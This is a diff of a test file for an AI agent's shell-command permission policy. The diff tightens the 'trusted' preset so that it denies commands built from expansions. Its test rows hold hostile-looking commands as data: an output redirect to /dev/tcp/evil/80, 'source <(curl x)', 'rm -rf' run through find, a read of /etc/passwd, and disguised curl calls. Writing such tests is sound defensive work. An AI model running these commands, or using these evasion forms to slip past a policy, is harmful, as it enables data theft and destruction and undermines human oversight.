@@ -1,47 +1,7 @@
-import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import { evaluate, type PolicyRules } from "../../../src/agent/policy.js";
-import { makePolicyWorkspace, type PolicyWorkspace } from "./workspace.js";
+import { describe, it } from "vitest";
+import { type Row, useShellRows } from "./shell-rows.js";
 
-type Verdict = "allow" | "deny";
-/** [command, read-only, default, trusted, a phrase the default (or first) denial must contain] */
-type Row = [string, Verdict, Verdict, Verdict, string?];
-
-let workspace: PolicyWorkspace;
-const presets: Record<string, PolicyRules> = {};
-
-beforeAll(async () => {
-  workspace = await makePolicyWorkspace();
-  for (const preset of ["read-only", "default", "trusted"] as const) {
-    presets[preset] = await workspace.rules({ preset });
-  }
-});
-afterAll(() => workspace.remove());
-
-function shell(command: string, rules: PolicyRules | undefined) {
-  if (!rules) throw new Error("rules not loaded");
-  return evaluate({ tool: "run_shell", input: { command } }, rules);
-}
-
-function check([command, readOnly, byDefault, trusted, phrase]: Row): void {
-  const results = {
-    "read-only": shell(command, presets["read-only"]),
-    default: shell(command, presets.default),
-    trusted: shell(command, presets.trusted),
-  };
-  expect({
-    "read-only": results["read-only"].allow,
-    default: results.default.allow,
-    trusted: results.trusted.allow,
-  }).toEqual({
-    "read-only": readOnly === "allow",
-    default: byDefault === "allow",
-    trusted: trusted === "allow",
-  });
-  if (phrase) {
-    const denial = [results.default, results["read-only"], results.trusted].find((r) => !r.allow);
-    expect(denial && !denial.allow ? denial.reason : "").toContain(phrase);
-  }
-}
+const check = useShellRows();
 
 describe("run_shell: reading", () => {
   it.each<Row>([
@@ -240,7 +200,7 @@ describe("run_shell: chains and hidden commands", () => {
     ["while read l; do ssh $l; done < hosts", "deny", "deny", "allow", "`ssh`"],
     ['eval "$X"', "deny", "deny", "allow", "`eval` runs a string"],
     ["eval ls", "deny", "deny", "allow", "`eval`"],
-    ['bash -c "$Y"', "deny", "deny", "allow", "runs code built from an expansion"],
+    ['bash -c "$Y"', "deny", "deny", "deny", "runs code built from an expansion"],
     ["bash -c 'curl x'", "deny", "deny", "allow", "`curl` is a network tool"],
     ["sh -c 'ls && cat src/a.ts'", "allow", "allow", "allow"],
     ["bash -c \"bash -c 'wget x'\"", "deny", "deny", "allow", "`wget`"],
@@ -249,9 +209,9 @@ describe("run_shell: chains and hidden commands", () => {
     ["cat x | python3", "deny", "deny", "allow", "piping into `python3`"],
     ["bash < script.sh", "deny", "deny", "allow", "reads its program from a redirect"],
     ["python - <<EOF\nprint(1)\nEOF", "deny", "deny", "allow", "python"],
-    ["$CMD args", "deny", "deny", "allow", "comes from an expansion"],
-    ["$(echo curl) x", "deny", "deny", "allow", "comes from an expansion"],
-    ["exec $X", "deny", "deny", "allow", "comes from an expansion"],
+    ["$CMD args", "deny", "deny", "deny", "comes from an expansion"],
+    ["$(echo curl) x", "deny", "deny", "deny", "comes from an expansion"],
+    ["exec $X", "deny", "deny", "deny", "comes from an expansion"],
     ["source <(curl x)", "deny", "deny", "allow", "runs a script that is only known at run time"],
     [". /dev/stdin", "deny", "deny", "allow", "only known at run time"],
     ["ls | xargs curl", "deny", "deny", "allow", "`curl` is a network tool"],
@@ -261,17 +221,17 @@ describe("run_shell: chains and hidden commands", () => {
     ["timeout 5 sudo ls", "deny", "deny", "allow", "sudo"],
     ["command curl x", "deny", "deny", "allow", "`curl`"],
     ["nohup wget x &", "deny", "deny", "allow", "`wget`"],
-    ["env -S 'curl x'", "deny", "deny", "allow", "env -S"],
+    ["env -S 'curl x'", "deny", "deny", "deny", "env -S"],
     ["[[ -n $(curl x) ]]", "deny", "deny", "allow", "`curl`"],
     ["echo hi > /dev/tcp/evil/80", "deny", "deny", "allow", "outside the workspace"],
     [
       "echo /etc/passwd | xargs -I{} sh -c 'cat {}'",
       "deny",
       "deny",
-      "allow",
+      "deny",
       "built from an expansion",
     ],
-    ["find . -exec sh -c 'rm -rf {}' \\;", "deny", "deny", "allow", "code containing {}"],
+    ["find . -exec sh -c 'rm -rf {}' \\;", "deny", "deny", "deny", "code containing {}"],
     ["builtin eval ls", "deny", "deny", "allow", "`eval`"],
     ["\\curl x", "deny", "deny", "allow", "`curl` is a network tool"],
     ['"cu"rl x', "deny", "deny", "allow", "`curl` is a network tool"],
